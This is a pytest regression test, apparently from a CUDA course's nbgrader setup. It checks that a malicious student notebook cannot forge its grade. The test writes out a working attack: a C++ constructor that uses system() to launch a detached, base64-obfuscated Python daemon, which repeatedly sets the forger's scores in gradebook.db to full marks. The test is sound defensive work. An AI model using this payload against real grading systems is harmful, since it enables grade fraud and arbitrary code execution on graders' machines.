"""A malicious ps2 submission cannot change a grade (issue 31): graded by `nbgrader autograde` in a copy of
the sample course, beside the committed samples and its own twin without the attack.

The forger hands in alice's Q2 and Q3 with the Q1 kernel left as released (a stub that computes nothing)
plus an attack hidden from NVRTC behind `#ifdef CUDALAB_CPU_RUNNER`: a constructor that starts a
detached daemon which keeps setting the forger's grades in gradebook.db to full marks for two minutes,
long after its notebook was graded (the issue saw a blank submission reach 13/13 this way). The honest
twin is the same notebook without the attack. Both are graded in the same run as two of the samples
(test_autograde_psets grades them all), and:

  * the forger scores exactly what its twin scores, test cell for test cell;
  * each sample graded beside them scores what psets.PS2 expects of it on this backend;
  * no process outlives autograde (redteam.kill_left: any found is killed before the test fails).

The grading environment and helpers are grade_samples.py's (`make grade` uses them too).
"""
from __future__ import annotations

import base64
import shutil
import sys
import time

import nbformat
import pytest

from conftest import kernel_binary
from grade_samples import (backend_of, by_grade_id, copy_course, gradebook_scores, grading_env, nbgrader,
                           student_families)
from psets import PS2
from redteam import kill_left, processes_naming

pytestmark = pytest.mark.timeout(600)

FORGER, TWIN = "forger", "honest"
# the samples graded beside them (test_autograde_psets grades every sample; two keep this run short)
BESIDE = {"alice", "bob"}
# The launch limit of this grading run: grade_samples' 2 s is tight on a loaded 2-core machine (alice's
# myreduce at 1000003 elements has run past it there), and a timeout that hit the forger but not its
# twin would tell them apart for a reason that is not the attack; erin's endless loop still ends at it.
LAUNCH_LIMIT_S = "10"
# how long the test waits after autograde for a surviving daemon to do its work (it acts every 0.2 s)
DAEMON_GRACE_S = 2.0

# The daemon: full marks for the forger, over and over, for two minutes.
FORGE = f"""
import sqlite3, sys, time
end = time.time() + 120
while time.time() < end:
    try:
        db = sqlite3.connect(sys.argv[1], timeout=1)
        db.execute(\"\"\"UPDATE grade SET needs_manual_grade = 0,
            auto_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)
            WHERE notebook_id IN (SELECT n.id FROM submitted_notebook n JOIN submitted_assignment a
                                  ON n.assignment_id = a.id WHERE a.student_id = '{FORGER}')\"\"\")
        db.commit()
        db.close()
    except Exception:
        pass
    time.sleep(0.2)
"""


def attack(gradebook) -> str:
    """The C++ the forger adds to its Q1 kernel cell: a constructor starting the daemon, detached (its own
    session, in the background of a subshell) so that it outlives whatever ran the constructor."""
    payload = base64.b64encode(FORGE.encode()).decode()
    command = (f"(setsid {sys.executable} -c \\\"import base64; exec(base64.b64decode('{payload}'))\\\" "
               f"{gradebook} >/dev/null 2>&1 &)")
    return ("#ifdef CUDALAB_CPU_RUNNER\n"
            'extern "C" int system(const char *);\n'
            f'__attribute__((constructor)) static void forge_grades(void) {{ system("{command}"); }}\n'
            "#endif\n")


def hand_in(root, student: str, extra: str = "") -> None:
    """alice's notebook with the Q1 kernel as released, extra (C++) after its %%kernel line."""
    nb = nbformat.read(root / "submitted" / "alice" / PS2.assignment / f"{PS2.notebook}.ipynb", as_version=4)
    stub = by_grade_id(PS2.read_release(root))["q1-kernel"].source
    head, body = stub.split("\n", 1)
    by_grade_id(nb)["q1-kernel"].source = f"{head}\n{extra}{body}"
    folder = root / "submitted" / student / PS2.assignment
    folder.mkdir(parents=True)
    nbformat.write(nb, folder / f"{PS2.notebook}.ipynb")


def test_a_forged_grade_does_not_stick(tmp_path):
    pytest.importorskip("nbgrader", reason="nbgrader is not installed: pip install -r requirements-grade.txt")
    env = dict(grading_env(kernel_binary(), tmp_path), CUDALAB_KERNEL_TIMEOUT=LAUNCH_LIMIT_S)
    root = copy_course(tmp_path / "assignments")
    backend, families = backend_of(kernel_binary(), env), student_families(kernel_binary(), env)
    nbgrader(["generate_assignment", PS2.assignment], root, env)
    hand_in(root, TWIN)
    hand_in(root, FORGER, attack(root / "gradebook.db"))
    for other in (root / "submitted").iterdir():
        if other.name not in BESIDE | {FORGER, TWIN} and (other / PS2.assignment).is_dir():
            shutil.rmtree(other / PS2.assignment)
    samples = {s for s in PS2.expected_scores(backend, families) if (root / "submitted" / s / PS2.assignment).is_dir()}
    assert samples == BESIDE, samples

    left = []
    try:
        nbgrader(["autograde", PS2.assignment], root, env)
        time.sleep(DAEMON_GRACE_S)
        scores = gradebook_scores(root, PS2.assignment, PS2.notebook)
    finally:
        left = kill_left(lambda: processes_naming(str(tmp_path)), linger=0)

    assert scores[FORGER] == scores[TWIN], \
        f"the attack changed the forger's grades: {scores[FORGER]} where its twin has {scores[TWIN]}"
    want = PS2.expected_scores(backend, families)
    assert {s: scores[s] for s in samples} == {s: want[s] for s in samples}, "a sample's scores changed"
    assert set(scores) == samples | {FORGER, TWIN}
    assert not left, "processes outlived autograde: " + "; ".join(left)
